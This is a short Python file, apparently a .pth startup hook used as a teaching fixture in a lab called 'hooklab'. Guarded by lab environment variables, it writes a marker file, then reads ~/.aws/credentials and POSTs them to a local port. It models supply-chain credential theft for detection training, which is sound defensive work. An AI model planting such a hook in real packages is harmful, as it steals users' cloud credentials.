# HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
import http.client
import os
import pathlib

_env = os.environ
_home = pathlib.Path(_env.get("HOME", "/nonexistent"))
if _env.get("HOOKLAB_CANARY_DIR") and _env.get("HOOKLAB_CANARY_PORT") and (_home / ".hooklab-fake-home").is_file():
    pathlib.Path(_env["HOOKLAB_CANARY_DIR"], f"pypi-pth.{os.getpid()}.marker").write_text("pth ran\n")  # hooklab:payload
    try:
        _c = http.client.HTTPConnection("127.0.0.1", int(_env["HOOKLAB_CANARY_PORT"]), timeout=2)
        _c.request("POST", "/pypi-pth", body=(_home / ".aws" / "credentials").read_text())
        _c.getresponse()
    except OSError:
        pass
